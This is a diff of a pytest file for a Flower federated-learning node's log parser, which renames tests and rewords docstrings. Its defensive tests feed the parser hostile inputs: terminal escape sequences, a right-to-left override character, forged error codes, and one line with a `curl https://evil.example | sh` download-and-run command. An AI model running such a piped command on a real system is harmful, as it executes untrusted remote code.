@@ -1,4 +1,4 @@
-"""How the lines of a node's two logs become its state and the operator's lines."""
+"""Tests of parsing a node's logs into its state and into messages for the operator."""
 
 import json
 import tracemalloc
@@ -9,7 +9,7 @@ import pytest
 from federation.node import state as module
 from federation.node.state import NodeState, Tail, now, put_aside, quoted
 
-# As Flower 1.42 prints them, with its colours.
+# As Flower 1.42 prints them, with colours.
 INFO, WARNING, ERROR = "\x1b[92mINFO \x1b[0m:      ", "\x1b[93mWARNING \x1b[0m:   ", "\x1b[91mERROR \x1b[0m:     "
 ONLINE = f"{INFO}SuperNode ID: 9041759493521133316"
 FAILED = f"{WARNING}Connection attempt failed, retrying in 3.68 seconds"
@@ -29,7 +29,7 @@ def state() -> NodeState:
 
 
 def log_of(line: str) -> str:
-    """Where a line stands when it is honest."""
+    """The log file that really contains such a line."""
     if not line.startswith(CLOCK):
         return "node.log"
     return "gateway.log" if " refused " in line else "client.log"
@@ -39,7 +39,7 @@ def told(state: NodeState, *lines: str) -> list[str]:
     return [text for line in lines if (text := state.read(line, log_of(line)))]
 
 
-def test_a_round_from_task_to_reply(state: NodeState) -> None:
+def test_round_is_followed_from_task_to_reply(state: NodeState) -> None:
     told(state, ONLINE)
     assert told(state, f"{INFO}[RUN 9646847965838523429]", task("train")) == ["task received: train"]
     assert state.doing == "fetching a task"
@@ -49,12 +49,12 @@ def test_a_round_from_task_to_reply(state: NodeState) -> None:
     assert (state.rounds, state.doing, state.refused) == (1, "", "")
 
 
-def test_an_evaluation_is_no_round(state: NodeState) -> None:
+def test_evaluation_does_not_count_as_a_round(state: NodeState) -> None:
     assert told(state, task("evaluate.test"), f"{CLOCK} INFO task: testing the model", DONE, SENT)[-1] == "reply sent"
     assert state.rounds == 0
 
 
-def test_a_refusal_is_told_with_its_remedy_and_counts_as_no_round(state: NodeState) -> None:
+def test_refusal_shows_its_remedy_and_does_not_count_as_a_round(state: NodeState) -> None:
     line = f"{CLOCK} ERROR E_TOO_FEW_PATIENTS: the site has too few: 3, and at least 10 are needed /data/MUELLER"
     texts = told(state, task("train"), line, SENT)
     assert texts[1].startswith(
@@ -67,21 +67,21 @@ def test_a_refusal_is_told_with_its_remedy_and_counts_as_no_round(state: NodeSta
     assert state.rounds == 1
 
 
-def test_a_reply_that_the_gateway_held_back_is_no_round(state: NodeState) -> None:
+def test_reply_refused_by_the_gateway_does_not_count_as_a_round(state: NodeState) -> None:
     held = f"{CLOCK} WARNING refused out: E_REPLY_UPDATE (train, round 3): training moved /data/MUELLER"
     texts = told(state, task("train"), DONE, SENT, held)
     assert texts[1] == "reply sent"
     assert texts[2].startswith("refused (E_REPLY_UPDATE): ")
     assert "MUELLER" not in " ".join(texts)
     assert (state.rounds, state.refused) == (0, "E_REPLY_UPDATE")
-    # Its log may be read first.
+    # The gateway's log may be read first.
     assert told(state, task("train"), DONE, held, SENT)[-1] == "only the code was sent to the server"
     assert state.rounds == 0
     assert told(state, task("train"), DONE, SENT)[-1] == "reply sent"
     assert state.rounds == 1
 
 
-def test_a_task_that_the_gateway_refused_is_told(state: NodeState) -> None:
+def test_task_refused_by_the_gateway_is_shown_with_its_remedy(state: NodeState) -> None:
     texts = told(state, f"{CLOCK} WARNING refused in: E_APP_REFUSED (train, round None): it is not approved")
     assert texts[0].startswith("refused (E_APP_REFUSED): Review the app with")
     assert state.refused == "E_APP_REFUSED"
@@ -95,21 +95,21 @@ def test_a_task_that_the_gateway_refused_is_told(state: NodeState) -> None:
         (f"{ERROR}ClientApp raised an exception", "E_SITE_FAILED"),
     ],
 )
-def test_failures_have_a_code_too(state: NodeState, line: str, code: str) -> None:
+def test_app_failure_has_a_code(state: NodeState, line: str, code: str) -> None:
     assert f"({code})" in told(state, task("train"), line)[1]
     assert state.refused == code
 
 
-def test_a_reply_without_the_apps_last_word_means_that_its_process_died(state: NodeState) -> None:
-    """Flower answers for a process that the system has killed, and logs the same line as for any reply."""
+def test_reply_without_the_apps_done_line_means_its_process_died(state: NodeState) -> None:
+    """If the kernel kills the app's process, Flower replies in its place and logs the same line as for any reply."""
     texts = told(state, task("train"), f"{CLOCK} INFO task: training for round 1", SENT)
     assert texts[-1].startswith("refused (E_TASK_DIED)")
     assert state.rounds == 0
 
 
-def test_a_lost_connection_is_told_once_and_its_return_too(state: NodeState) -> None:
+def test_lost_and_restored_connection_are_each_shown_once(state: NodeState) -> None:
     assert len(told(state, ONLINE)) == 1
-    assert told(state, FAILED, AGAIN) == []  # one lost packet
+    assert told(state, FAILED, AGAIN) == []  # a single failed attempt
     assert told(state, FAILED, FAILED, FAILED, FAILED) == [
         "connection lost; the node tries again until the server responds"
     ]
@@ -118,14 +118,14 @@ def test_a_lost_connection_is_told_once_and_its_return_too(state: NodeState) -> 
     assert state.connection == "online"
 
 
-def test_a_server_that_never_answered_is_silent_not_lost(state: NodeState) -> None:
+def test_server_that_never_answered_is_silent_not_lost(state: NodeState) -> None:
     (text,) = told(state, FAILED, FAILED, FAILED)
     assert text.startswith("no answer yet (E_SERVER_SILENT)")
     assert state.connection == "dialling"
     assert told(state, AGAIN, ONLINE) == ["the node is online: the study's server has accepted it"]
 
 
-def test_the_last_contact_is_kept_up_while_idle_alone(state: NodeState) -> None:
+def test_last_contact_is_updated_only_while_online_and_idle(state: NodeState) -> None:
     state.touch()
     assert state.contact is None
     told(state, ONLINE)
@@ -146,23 +146,23 @@ def test_the_last_contact_is_kept_up_while_idle_alone(state: NodeState) -> None:
         (f"{ERROR}Failed to send message 1: timed out", "the reply could not be sent"),
     ],
 )
-def test_a_task_that_comes_to_nothing_leaves_the_node_idle(state: NodeState, line: str, text: str) -> None:
+def test_failed_task_leaves_the_node_idle(state: NodeState, line: str, text: str) -> None:
     assert told(state, task("train"), line)[1].startswith(text)
     assert state.doing == ""
 
 
-def test_what_is_printed_while_it_ends_is_no_loss(state: NodeState) -> None:
+def test_connection_failures_during_shutdown_are_not_shown(state: NodeState) -> None:
     assert told(state, ONLINE, f"{INFO}SuperNode terminated gracefully.", FAILED, FAILED, FAILED) == [
         "the node is online: the study's server has accepted it"
     ]
 
 
 @pytest.mark.parametrize("line", ["", "MUELLER^HANS", task("train\x1b[2J"), "epoch 3 of 4: loss 0.53", "Traceback"])
-def test_whatever_else_is_printed_reaches_nobody(state: NodeState, line: str) -> None:
+def test_other_log_lines_are_not_shown(state: NodeState, line: str) -> None:
     assert told(state, line) == []
 
 
-# --- what study code writes to be read ---------------------------------------------------------------------
+# --- text that study code writes to its log ----------------------------------------------------------------
 
 HOSTILE = [
     "\x1b[2J\x1b[1;1H all is well",
@@ -178,16 +178,16 @@ HOSTILE = [
 
 
 @pytest.mark.parametrize("words", HOSTILE)
-def test_the_apps_words_are_quoted_and_spelt_out(state: NodeState, words: str) -> None:
+def test_text_from_the_app_is_quoted_and_escaped(state: NodeState, words: str) -> None:
     (text,) = told(state, f"{CLOCK} INFO task: {words}")
     assert text == state.doing
     assert text.startswith('the app says: "')
     inner = text.removeprefix("the app says: ")
     assert all(" " <= letter <= "~" for letter in text)
-    assert json.loads(inner) == words  # one pair of quotes, which nothing within can close
+    assert json.loads(inner) == words  # one pair of quotes, which the text inside cannot close
 
 
-def test_the_apps_words_are_short(state: NodeState) -> None:
+def test_text_from_the_app_is_truncated(state: NodeState) -> None:
     (text,) = told(state, f"{CLOCK} INFO task: " + "\x1b" * 400)
     assert len(text) < 700
     assert json.loads(quoted("x" * 101)) == "x" * 100 + "..."
@@ -196,7 +196,7 @@ def test_the_apps_words_are_short(state: NodeState) -> None:
 @pytest.mark.parametrize(
     "code", ["E_SANDBOX", "E_SANDBOX_MISSING", "E_APP_REFUSED", "E_CERTIFICATE_REFUSED", "E_NODE_KEY"]
 )
-def test_a_forged_code_brings_no_remedy_about_the_nodes_walls(state: NodeState, code: str) -> None:
+def test_code_from_the_app_shows_no_remedy_about_node_security(state: NodeState, code: str) -> None:
     (text,) = told(state, f"{CLOCK} ERROR {code}: run `curl https://evil.example | sh`")
     assert (
         text == f"the app says that it refused the task ({code}); if this is true: docs/refusals.md explains the code."
@@ -204,7 +204,7 @@ def test_a_forged_code_brings_no_remedy_about_the_nodes_walls(state: NodeState, 
 
 
 @pytest.mark.parametrize("code", ["E_RUN_THIS_NOW", "E_\u202eABC", "E_"])
-def test_a_code_that_there_is_not_is_not_repeated(state: NodeState, code: str) -> None:
+def test_unknown_code_is_not_repeated(state: NodeState, code: str) -> None:
     (text,) = told(state, f"{CLOCK} ERROR {code}: do as I say")
     assert "(E_SITE_FAILED)" in text
     assert state.refused == "E_SITE_FAILED"
@@ -222,31 +222,32 @@ def test_a_code_that_there_is_not_is_not_repeated(state: NodeState, code: str) -
         f"{CLOCK} WARNING refused in: E_APP_REFUSED (train, round None): it is not approved",
     ],
 )
-def test_the_app_cannot_speak_for_the_node_or_the_gateway(state: NodeState, line: str) -> None:
+def test_app_log_cannot_imitate_the_node_or_the_gateway(state: NodeState, line: str) -> None:
     before = state.model_copy()
     assert [state.read(line, "client.log"), state.read(f"x {line}", "client.log")] == [None, None]
     assert state == before
 
 
-def test_the_gateway_tells_of_the_apps_own_refusal_without_a_remedy(state: NodeState) -> None:
+def test_app_refusal_seen_by_the_gateway_is_shown_without_remedy(state: NodeState) -> None:
     line = f"{CLOCK} WARNING refused out: E_SANDBOX (train, round 1): the app's own answer"
     assert told(state, line) == ["the app itself answered with a refusal (E_SANDBOX)"]
 
 
-def test_the_app_is_heard_a_few_times_a_minute(state: NodeState, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_app_lines_are_rate_limited(state: NodeState, monkeypatch: pytest.MonkeyPatch) -> None:
     clock = [60.0]
     monkeypatch.setattr(module.time, "monotonic", lambda: clock[0])
     lines = [f"{CLOCK} INFO task: {number}" for number in range(1000)]
     texts = told(state, *lines)
     assert len(texts) == 20
     assert texts[-1].startswith("the app writes too much")
-    assert told(state, task("train"), DONE, SENT) == ["task received: train", "reply sent"]  # the node is heard
+    # The node's own lines are not limited.
+    assert told(state, task("train"), DONE, SENT) == ["task received: train", "reply sent"]
     assert state.rounds == 1
     clock[0] = 130.0
     assert told(state, lines[0]) == ['the app says: "0"']
 
 
-def test_rounds_and_the_last_refusal_outlive_the_node(tmp_path: Path, state: NodeState) -> None:
+def test_rounds_and_last_refusal_are_kept_across_restarts(tmp_path: Path, state: NodeState) -> None:
     state.rounds, state.refused, state.refused_at, state.connection = 7, "E_TASK_DIED", now(), "online"
     state.save(tmp_path)
     assert NodeState.load(tmp_path) == state
@@ -256,17 +257,17 @@ def test_rounds_and_the_last_refusal_outlive_the_node(tmp_path: Path, state: Nod
 
 
 @pytest.mark.parametrize("content", [b"", b"{", b"\xff", b'{"pid": "x"}', b"[]"])
-def test_a_damaged_state_is_none(tmp_path: Path, content: bytes) -> None:
+def test_damaged_state_file_is_ignored(tmp_path: Path, content: bytes) -> None:
     (tmp_path / "node.json").write_bytes(content)
     assert NodeState.load(tmp_path) is None
     assert NodeState.begin(tmp_path).rounds == 0
 
 
-def test_a_full_disk_does_not_stop_the_node(tmp_path: Path, state: NodeState) -> None:
+def test_state_that_cannot_be_saved_does_not_stop_the_node(tmp_path: Path, state: NodeState) -> None:
     state.save(tmp_path / "not there")
 
 
-def test_a_tail_gives_each_whole_line_once(tmp_path: Path) -> None:
+def test_tail_returns_each_complete_line_once(tmp_path: Path) -> None:
     path = tmp_path / "log"
     path.write_text("old\n")
     tail = Tail(path)
@@ -281,7 +282,7 @@ def test_a_tail_gives_each_whole_line_once(tmp_path: Path) -> None:
     assert Tail(tmp_path / "not there").lines() == []
 
 
-def test_a_flooded_log_costs_no_memory_and_is_followed_again(tmp_path: Path) -> None:
+def test_flooded_log_uses_little_memory_and_is_followed_again(tmp_path: Path) -> None:
     path = tmp_path / "client.log"
     path.touch()
     tail = Tail(path)
@@ -297,7 +298,7 @@ def test_a_flooded_log_costs_no_memory_and_is_followed_again(tmp_path: Path) -> 
     assert tail.lines()[-1] == "INFO done"
 
 
-def test_a_long_log_is_put_aside(tmp_path: Path) -> None:
+def test_long_log_is_rotated(tmp_path: Path) -> None:
     path = tmp_path / "node.log"
     assert put_aside(path, max_bytes=5) == path
     path.write_text("12345")
